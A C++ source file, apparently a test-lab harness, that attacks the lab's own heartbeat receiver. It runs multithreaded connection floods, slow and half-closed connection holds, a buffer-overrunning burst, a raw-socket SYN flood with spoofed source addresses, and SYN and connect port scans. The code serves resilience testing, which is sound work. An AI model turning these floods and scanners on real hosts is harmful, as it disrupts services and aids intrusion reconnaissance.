#include "lab/campaigns/hostile/Floods.h"

#include <algorithm>
#include <functional>
#include <random>
#include <thread>
#include <vector>

#include <poll.h>

#include "lab/campaigns/hostile/Frames.h"
#include "lab/campaigns/hostile/Payload.h"
#include "lab/campaigns/hostile/Received.h"
#include "lab/core/Files.h"
#include "lab/core/Plan.h"

namespace velarix::lab::hostile
{

namespace
{

constexpr Millis floodLimit{900000};

/// Many connections after each other, from several threads, until what is counted
/// comes to `wanted`, or as many were tried in vain.
void flood(const AttackParameters& parameters, AttackTally& tally, const std::atomic<long>& counted, long wanted,
           const std::function<void(Descriptor& connection, std::mt19937_64& random)>& visit)
{
	const LabClock clock;
	const auto goesOn = [&]
	{
		const bool inVain = tally.connections == 0 && tally.tries >= wanted;
		return !parameters.stop && !inVain && counted < wanted && clock.now() < floodLimit;
	};
	std::vector<std::thread> threads;
	for (std::uint64_t number = 0; number < 16; ++number)
	{
		threads.emplace_back(
		    [&, number]
		    {
			    std::mt19937_64 random(parameters.seed * 1000 + number);
			    while (goesOn())
			    {
				    Descriptor connection = connectTo(heartbeatPortOf(parameters), connectLimit, tally);
				    connection ? visit(connection, random) : std::this_thread::sleep_for(Millis(5));
			    }
		    });
	}
	for (std::thread& thread : threads)
	{
		thread.join();
	}
}

/// How many messages that are not its partner's the target has read so far.
long readByTarget(const AttackParameters& parameters)
{
	const ReceivedCounts received = receivedIn(contentIfAny(parameters.log));
	return received.all - received.partner;
}

/// The receiver's buffer holds 256 bytes.
long readsOf(const std::string& payload)
{
	return static_cast<long>((payload.size() + 255) / 256);
}

bool isDropped(const Descriptor& connection)
{
	pollfd watched{connection.get(), POLLRDHUP, 0};
	return ::poll(&watched, 1, 0) != 0;
}

/// Waits for it, unless the target drops the connection unread.
bool isReadByTarget(const AttackParameters& parameters, const Descriptor& connection, long wanted)
{
	const LabClock clock;
	bool read = false;
	while (!read && !isDropped(connection) && !parameters.stop && clock.now() < Millis(15000))
	{
		std::this_thread::sleep_for(Millis(50));
		read = readByTarget(parameters) >= wanted;
	}
	return read;
}

} // namespace

long resetsOf(long count)
{
	return std::max(1L, count / 10);
}

long readOnesOf(long count)
{
	return std::max(1L, count / 20);
}

sockaddr_in heartbeatPortOf(const AttackParameters& parameters)
{
	return socketAddress(parameters.at, plan::heartbeatPort);
}

void sendRandom(const AttackParameters& parameters, AttackTally& tally)
{
	flood(parameters, tally, tally.messages, parameters.count,
	      [&](Descriptor& connection, std::mt19937_64& numbers)
	      { sendPayload(connection, randomPayload(numbers), tally); });
}

void connectAndReset(const AttackParameters& parameters, AttackTally& tally)
{
	flood(parameters, tally, tally.connections, resetsOf(parameters.count),
	      [&](Descriptor& connection, std::mt19937_64& numbers)
	      {
		      sendPayload(connection, randomPayload(numbers).substr(0, numbers() % 40), tally);
		      resetConnection(connection);
	      });
}

/// On one connection, each when all of the one before has been read: two that are read
/// together may make a heartbeat that neither of them is.
void sendRandomOneByOne(const AttackParameters& parameters, AttackTally& tally)
{
	std::mt19937_64 numbers(parameters.seed);
	const LabClock clock;
	const long wanted = readOnesOf(parameters.count);
	long readWhole = 0;
	Descriptor connection;
	const auto limit = [&] { return tally.connections > 0 ? floodLimit : Millis(30000); };
	while (readWhole < wanted && !parameters.stop && clock.now() < limit())
	{
		if (!connection)
		{
			std::this_thread::sleep_for(Millis(20));
			connection = connectTo(heartbeatPortOf(parameters), handshakeLimit, tally);
			continue;
		}
		const std::string payload = randomPayload(numbers);
		const long before = readByTarget(parameters);
		if (sendPayload(connection, payload, tally) &&
		    isReadByTarget(parameters, connection, before + readsOf(payload)))
		{
			++readWhole;
		}
		else
		{
			connection.reset();
		}
	}
}

void connectClientPool(const AttackParameters& parameters, AttackTally& tally)
{
	ClientPool{.size = clientPoolSize}.keepConnected(heartbeatPortOf(parameters), tally, parameters.stop);
}

void connectSilently(const AttackParameters& parameters, AttackTally& tally)
{
	ClientPool{.size = 1}.keepConnected(heartbeatPortOf(parameters), tally, parameters.stop);
}

void sendSlowly(const AttackParameters& parameters, AttackTally& tally)
{
	ClientPool{.size = 20, .payload = "~"}.keepConnected(heartbeatPortOf(parameters), tally, parameters.stop);
}

void holdConnection(const AttackParameters& parameters, AttackTally& tally)
{
	ClientPool{.size = 1, .payload = "/held/"}.keepConnected(heartbeatPortOf(parameters), tally, parameters.stop);
}

void neverClose(const AttackParameters& parameters, AttackTally& tally)
{
	ClientPool{.size = 1, .firstPayload = "/staying/", .staysHalfClosed = true}.keepConnected(
	    heartbeatPortOf(parameters), tally, parameters.stop);
}

/// 16 KiB and the farewell at once: 64 messages of 256 bytes for the receiver. A
/// connection that waits when the node has served another one is dropped unread.
void sendBurst(const AttackParameters& parameters, AttackTally& tally)
{
	const std::string first = "received message: " + std::string(256, '~');
	const LabClock clock;
	while (!parameters.stop && tally.received == 0 && clock.now() < Millis(45000))
	{
		Descriptor connection = connectTo(heartbeatPortOf(parameters), handshakeLimit, tally);
		const bool sent = connection && sendPayload(connection, std::string(16384, '~'), tally);
		connection.reset();
		for (int look = 0; sent && look < 40 && tally.received == 0 && !parameters.stop; ++look)
		{
			std::this_thread::sleep_for(Millis(50));
			tally.received = timesIn(parameters.log, first);
		}
		std::this_thread::sleep_for(Millis(20));
	}
}

void synFlood(const AttackParameters& parameters, AttackTally& tally)
{
	RawSender sender;
	std::mt19937_64 numbers(parameters.seed);
	while (!parameters.stop)
	{
		const std::string nobody = "198.51.100." + std::to_string(128 + numbers() % 120);
		for (int port = 0; port < 20; ++port)
		{
			sender.sendSyn(heartbeatPortOf(parameters),
			               socketAddress(nobody, static_cast<int>(1024 + numbers() % 60000)), tally);
		}
		std::this_thread::sleep_for(Millis(20));
	}
}

void scanBySyn(const AttackParameters& parameters, AttackTally& tally)
{
	RawSender sender;
	sockaddr_in target = heartbeatPortOf(parameters);
	for (int port = 1; port <= highestPort && !parameters.stop; ++port)
	{
		target.sin_port = htons(static_cast<std::uint16_t>(port));
		sender.sendSyn(target, socketAddress(plan::attackerAddress, 41000 + port % 20000), tally);
		std::this_thread::sleep_for(Millis(port % 100 == 0 ? 10 : 0));
	}
}

void scanByConnect(const AttackParameters& parameters, AttackTally& tally)
{
	sockaddr_in target = heartbeatPortOf(parameters);
	AttackTally others;
	for (int port = 1; port <= highestPort && !parameters.stop; ++port)
	{
		target.sin_port = htons(static_cast<std::uint16_t>(port));
		connectTo(target, connectLimit, port == plan::heartbeatPort ? tally : others);
	}
	tally.tries += others.tries;
	// The receiver closes its port between two heartbeats: a scanner looks again.
	for (int look = 0; look < 100 && tally.connections == 0 && !parameters.stop; ++look)
	{
		connectTo(heartbeatPortOf(parameters), connectLimit, tally);
		std::this_thread::sleep_for(Millis(20));
	}
}

} // namespace velarix::lab::hostile
